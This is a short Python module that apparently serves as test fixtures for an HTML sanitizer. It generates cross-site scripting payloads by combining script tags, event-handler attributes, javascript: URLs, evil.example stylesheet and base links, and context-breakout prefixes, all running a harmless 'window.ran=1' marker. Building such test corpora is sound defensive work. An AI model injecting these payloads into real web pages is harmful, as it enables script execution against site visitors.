"""Text that attacks a web page: if any of it runs, `window.ran` is set or a dialog pops up."""

from __future__ import annotations

from typing import Final

_RUN: Final = "window.ran=1"
_ACTS: Final = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=data:text/javascript,{}></script>",
    "<img src=x onerror={}>", '<img src=x onerror="{}">', "<img/src=x/onerror={}//",
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s></svg>", "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>", '<iframe src="javascript:{}">',
    "<details open ontoggle={}>", "<video><source onerror={}></video>", "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<marquee onstart={}>",
    '<a href="javascript:{}">x</a>', "<a href=javascript&colon;{}>x</a>", "javascript:{}",
    "data:text/html,<script>{}</script>", "<object data='javascript:{}'>",
    "<embed src=javascript:{}>", "<math><mtext><img src=x onerror={}></mtext></math>",
    "<style>@import 'javascript:{}';</style>",
    "<link rel=stylesheet href=https://evil.example/{}>", "<base href=https://evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
)  # fmt: skip
_ESCAPES: Final = (
    "{}", '">{}', "'>{}", "</p>{}", "</blockquote></article>{}", "</script>{}", "</style>{}",
    "</title></textarea>{}", "-->{}", "{{{{ 7 * 7 }}}}{{% raw %}}{}",
)  # fmt: skip

PAYLOADS: Final = tuple(escape.format(act.format(_RUN)) for escape in _ESCAPES for act in _ACTS)
